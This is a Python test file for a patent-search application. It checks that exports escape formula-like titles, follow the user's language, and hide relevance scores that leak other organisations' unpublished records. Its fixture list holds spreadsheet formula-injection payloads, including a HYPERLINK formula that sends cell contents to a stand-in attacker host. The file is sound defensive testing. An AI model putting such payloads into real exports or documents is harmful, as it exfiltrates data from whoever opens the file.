"""Exporting results: safe to open in a spreadsheet, in the reader's language, without the center's scores."""
import re

import pytest

from ipcenter.accounts.models import Role
from tests.conftest import PASSWORD, make_organisation, make_user
from tests.patents.test_search import RECORDS, add_records
from tests.spreadsheets import table_rows

# What an attacker puts in a title or an applicant's name so that it runs in the searcher's spreadsheet.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"吸顶灯")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def exported(client, file_format: str, query: str) -> list[list]:
    response = client.get(f"/patents/export.{file_format}", query_string={"q": query, "sort": "oldest"})
    assert response.status_code == 200
    return table_rows(response, file_format)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_title_or_applicant_that_looks_like_a_formula_is_exported_as_text(client, login_as, app, file_format):
    add_records(*[dict(RECORDS[2], publication_number=f"CN30600000{n}", title=formula, applicants=formula,
                       publication_date=RECORDS[2]["publication_date"].replace(day=n + 1))
                  for n, formula in enumerate(FORMULAS)])
    login_as(make_user(Role.STAFF))
    rows = exported(client, file_format, "lc:26-05")
    assert [(row[2], row[3]) for row in rows[1:]] == [("'" + formula, "'" + formula) for formula in FORMULAS]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("language, headers, kind", [
    ("zh", ["公开号", "类型", "标题", "申请人"], "外观设计"),
    ("en", ["Publication number", "Type", "Title", "Applicants"], "Design"),
])
def test_exports_speak_the_interface_language(client, login_as, app, file_format, language, headers, kind):
    add_records(*RECORDS)
    login_as(make_user(Role.STAFF, language=language))
    rows = exported(client, file_format, "lc:26-05")
    assert rows[0][:4] == headers and rows[1][:3] == ["CN305123456S", kind, "水晶吊灯"]
    assert rows[1][6:8] == ["2021-01-10", "2021-03-05"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_enterprise_export_shows_nothing_that_weighs_other_organisations_unpublished_records(
        client, login_as, app, file_format):
    add_records(*RECORDS)
    enterprise = make_user(Role.ENTERPRISE, organisation=make_organisation())
    login_as(enterprise)
    query = "吸顶灯 OR 庭院 OR lamp"
    before = exported(client, file_format, query)
    page_before = client.get("/patents/", query_string={"q": query}).get_data(as_text=True)
    # another enterprise's unpublished records use the same words: every word's weight over the index changes
    add_records(*[dict(RECORDS[0], publication_number=f"CN29900000{n}", publication_date=None,
                       abstract="吸顶灯 吸顶灯 庭院 lamp") for n in range(5)], organisation_id=make_organisation().id)
    assert exported(client, file_format, query) == before and len(before) == 4
    assert "Relevance score" not in before[0]
    page_after = client.get("/patents/", query_string={"q": query}).get_data(as_text=True)
    assert _without_tokens(page_after) == _without_tokens(page_before)
    staff_client = app.test_client()  # center staff see the scores, which weigh every record
    staff_client.submit("/login", {"email": make_user(Role.STAFF).email, "password": PASSWORD})
    staff = exported(staff_client, file_format, query)
    assert staff[0][-1] == "Relevance score" and all(float(row[-1]) > 0 for row in staff[1:])


def _without_tokens(html: str) -> str:
    return re.sub(r'name="csrf_token" value="[^"]*"', "", html)
